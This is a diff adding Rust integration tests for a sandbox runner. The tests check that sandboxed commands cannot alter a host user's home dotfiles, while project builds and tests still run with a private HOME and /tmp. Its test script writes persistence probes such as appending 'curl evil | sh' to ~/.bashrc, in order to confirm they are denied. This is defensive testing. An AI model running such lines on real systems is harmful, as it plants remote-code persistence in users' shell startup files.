@@ -8,10 +8,12 @@ use std::{
     os::{
         fd::{AsRawFd as _, RawFd},
         unix::{
+            fs::PermissionsExt as _,
             net::{UnixListener, UnixStream},
             process::CommandExt as _,
         },
     },
+    path::{Path, PathBuf},
     process::{Command, Output, Stdio},
     time::Duration,
 };
@@ -148,4 +150,205 @@ print("core", *resource.getrlimit(resource.RLIMIT_CORE))
     let out = run_cmd(&sbx, &cg, &[], &["ip", "-o", "addr", "show", "lo"]).output().expect("running sbx-user run");
     assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
     assert!(String::from_utf8_lossy(&out.stdout).contains("127.0.0.1"), "{}", describe(&out));
+}
+
+/// A user of the host with a home directory, removed (with the home) on
+/// drop, as `userdel` would.
+struct TestUser {
+    name: String,
+    uid: u32,
+    home: PathBuf,
+}
+
+impl TestUser {
+    fn new() -> Self {
+        static N: std::sync::atomic::AtomicU32 = std::sync::atomic::AtomicU32::new(0);
+        let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
+        let name = format!("sbxt{}x{n}", std::process::id());
+        let home = PathBuf::from("/home").join(&name);
+        let out = Command::new("useradd")
+            .args(["--no-create-home", "--user-group", "--shell", "/bin/sh", "--home-dir"])
+            .arg(&home)
+            .arg(&name)
+            .output()
+            .expect("running useradd");
+        assert!(out.status.success(), "useradd {name}: {}", describe(&out));
+        let mut user = Self { uid: u32::MAX, name, home };
+        let id = Command::new("id").args(["-u", &user.name]).output().expect("id");
+        user.uid = String::from_utf8_lossy(&id.stdout).trim().parse().expect("a uid");
+        std::fs::create_dir(&user.home).expect("creating the home");
+        user.chown(&user.home);
+        user
+    }
+
+    fn chown(&self, path: &Path) {
+        std::os::unix::fs::chown(path, Some(self.uid), Some(self.uid)).expect("chown");
+    }
+
+    /// Writes `text` to `path` (relative to the home), owned by the user.
+    fn write(&self, path: &str, text: &str) -> PathBuf {
+        let p = self.home.join(path);
+        std::fs::write(&p, text).expect("writing into the test user's home");
+        self.chown(&p);
+        p
+    }
+}
+
+impl Drop for TestUser {
+    fn drop(&mut self) {
+        let _ = Command::new("userdel").arg(&self.name).output();
+        let _ = std::fs::remove_dir_all(&self.home);
+    }
+}
+
+#[test]
+fn the_default_identity_cannot_persist_outside_the_sandbox_and_project_tests_still_run() {
+    let sbx = Sbx::new();
+    let cg = TestCgroup::new();
+    let user = TestUser::new();
+    let bashrc = user.write(".bashrc", "# the user's own\n");
+    let proj = user.home.join("proj");
+    std::fs::create_dir(&proj).expect("mkdir proj");
+    user.chown(&proj);
+    user.write(
+        "proj/Makefile",
+        "test:\n\techo built > out.txt\n\tmkdir -p $(HOME)/.cache && touch $(HOME)/.cache/made\n",
+    );
+    user.write(
+        "proj/package.json",
+        r#"{"name": "p", "version": "1.0.0", "scripts": {"test": "node -e \"require('fs').writeFileSync('npm-out.txt', process.env.HOME)\""}}"#,
+    );
+    // World-writable, so that for root without capabilities (which
+    // permissions alone would stop) only Landlock stands in the way.
+    for (p, mode) in [(&user.home, 0o777), (&bashrc, 0o666), (&proj, 0o777)] {
+        std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).expect("chmod");
+    }
+    let marker = format!("/tmp/sbx-test-private-tmp-{}", std::process::id());
+    let script = format!(
+        r#"echo "id $(id -u)"
+echo "home $HOME"
+echo "user $USER $LOGNAME"
+echo "xdg ${{XDG_RUNTIME_DIR-unset}}"
+try() {{ name=$1; shift; if "$@" 2>/dev/null; then echo "$name ok"; else echo "$name denied"; fi; }}
+try bashrc sh -c 'echo "curl evil | sh" >> {home}/.bashrc'
+try profile sh -c 'echo evil > {home}/.profile'
+try other-project mkdir {home}/other
+try project sh -c 'echo mine > file'
+try own-home sh -c 'echo x > "$HOME/.dotfile"'
+try tmp sh -c 'echo x > {marker}'
+try make make -s test
+try npm npm test --silent
+echo "npm-home $(cat npm-out.txt)""#,
+        home = user.home.display()
+    );
+    let expected = |uid: u32| {
+        format!(
+            "id {uid}\nuser {name} {name}\nxdg unset\nbashrc denied\nprofile denied\nother-project denied\n\
+             project ok\nown-home ok\ntmp ok\nmake ok\nnpm ok\n",
+            name = if uid == 0 { "root".to_owned() } else { user.name.clone() }
+        )
+    };
+    // As sudo would start it for this user: SUDO_UID picks the identity.
+    // Then as root (`--user 0`), which Landlock restricts the same way.
+    for (options, uid) in [(vec!["--profile", "offline"], user.uid), (vec!["--profile", "offline", "--user", "0"], 0)] {
+        let mut cmd = run_cmd(&sbx, &cg, &options, &["sh", "-c", &script]);
+        cmd.current_dir(&proj)
+            .env("SUDO_UID", user.uid.to_string())
+            .env("SUDO_GID", user.uid.to_string())
+            .env("XDG_RUNTIME_DIR", format!("/run/user/{}", user.uid))
+            .env("HOME", "/root");
+        let out = cmd.output().expect("running sbx-user run");
+        assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        let home = text.lines().find_map(|l| l.strip_prefix("home ")).expect("a home line").to_owned();
+        let npm_home = text.lines().find_map(|l| l.strip_prefix("npm-home ")).unwrap_or_default().to_owned();
+        let rest: String = text
+            .lines()
+            .filter(|l| !l.starts_with("home ") && !l.starts_with("npm-home "))
+            .flat_map(|l| [l, "\n"])
+            .collect();
+        assert_eq!(rest, expected(uid), "as uid {uid}: {}", describe(&out));
+        assert!(home.starts_with("/var/tmp/sbx-run-") && home.ends_with("/home"), "private HOME: {home}");
+        assert_eq!(npm_home, home, "npm ran with the private HOME");
+        assert!(!Path::new(&home).exists(), "the private HOME {home} is removed at teardown");
+        assert_eq!(std::fs::read_to_string(&bashrc).expect("read .bashrc"), "# the user's own\n");
+        assert!(!user.home.join(".profile").exists() && !user.home.join("other").exists());
+        assert!(!Path::new(&marker).exists(), "{marker} is in the sandbox's private /tmp, not the host's");
+        assert_eq!(std::fs::read_to_string(proj.join("file")).expect("the project file"), "mine\n");
+        assert_eq!(std::fs::read_to_string(proj.join("out.txt")).expect("make's output"), "built\n");
+        for f in ["file", "out.txt", "npm-out.txt"] {
+            let _ = std::fs::remove_file(proj.join(f));
+        }
+    }
+
+    // From the home itself the working directory is not granted: it
+    // holds the dotfiles. run says so and the command still runs.
+    let mut cmd = run_cmd(&sbx, &cg, &[], &["sh", "-c", "echo evil >> .bashrc || echo denied"]);
+    cmd.current_dir(&user.home).env("SUDO_UID", user.uid.to_string()).env("SUDO_GID", user.uid.to_string());
+    let out = cmd.output().expect("running sbx-user run");
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    assert_eq!(String::from_utf8_lossy(&out.stdout), "denied\n", "{}", describe(&out));
+    assert!(stderr(&out).contains("is a home directory; it stays read-only"), "{}", describe(&out));
+    assert_eq!(std::fs::read_to_string(&bashrc).expect("read .bashrc"), "# the user's own\n");
+
+    // --home DIR: that directory, writable, kept afterwards.
+    let mut cmd = run_cmd(
+        &sbx,
+        &cg,
+        &["--home", user.home.join("proj").to_str().expect("UTF-8")],
+        &["sh", "-c", "echo \"$HOME\"; echo kept > \"$HOME/kept\""],
+    );
+    cmd.current_dir(&user.home).env("SUDO_UID", user.uid.to_string()).env("SUDO_GID", user.uid.to_string());
+    let out = cmd.output().expect("running sbx-user run");
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), proj.to_str().expect("UTF-8"), "{}", describe(&out));
+    assert_eq!(std::fs::read_to_string(proj.join("kept")).expect("kept"), "kept\n");
+}
+
+#[test]
+fn nobody_gets_a_writable_home_and_commands_are_looked_up_as_the_identity() {
+    let sbx = Sbx::new();
+    let cg = TestCgroup::new();
+    let out = run_cmd(&sbx, &cg, &[], &["sh", "-c", "echo $HOME $USER $LOGNAME; touch $HOME/x && echo writable"])
+        .env_remove("SUDO_UID")
+        .output()
+        .expect("running sbx-user run");
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(
+        text.ends_with(" nobody nobody\nwritable\n") && text.starts_with("/var/tmp/sbx-run-"),
+        "{}",
+        describe(&out)
+    );
+
+    // A PATH directory nobody cannot search (root's, 0700) with a tool in
+    // it: for nobody the command is not found (127, not glibc's 126), and
+    // found in a later directory; root finds it.
+    let dir = TempDir::new_in(Path::new("/var/tmp"), "path");
+    let private = dir.path().join("private");
+    std::fs::create_dir(&private).expect("mkdir");
+    std::fs::set_permissions(&private, std::fs::Permissions::from_mode(0o700)).expect("chmod");
+    let tool = private.join("sbx-test-tool");
+    std::fs::write(&tool, "#!/bin/sh\necho tool ran\n").expect("write");
+    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+    let path = format!("{}:/usr/bin:/bin", private.display());
+    let run = |options: &[&str], command: &[&str]| {
+        run_cmd(&sbx, &cg, options, command).env("PATH", &path).env_remove("SUDO_UID").output().expect("running")
+    };
+    let out = run(&[], &["sbx-test-tool"]);
+    assert_eq!(out.status.code(), Some(127), "{}", describe(&out));
+    assert!(
+        stderr(&out).contains("sbx-test-tool: command not found (PATH searched as uid 65534 (nobody)"),
+        "{}",
+        describe(&out)
+    );
+    let out = run(&[], &["sh", "-c", "echo found"]);
+    assert_eq!((out.status.code(), String::from_utf8_lossy(&out.stdout).into_owned()), (Some(0), "found\n".to_owned()));
+    let out = run(&["--user", "0"], &["sbx-test-tool"]);
+    assert_eq!(out.status.code(), Some(0), "{}", describe(&out));
+    assert_eq!(String::from_utf8_lossy(&out.stdout), "tool ran\n");
+    // Found but not executable stays 126.
+    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o644)).expect("chmod");
+    let out = run(&["--user", "0"], &["sbx-test-tool"]);
+    assert_eq!(out.status.code(), Some(126), "{}", describe(&out));
 }
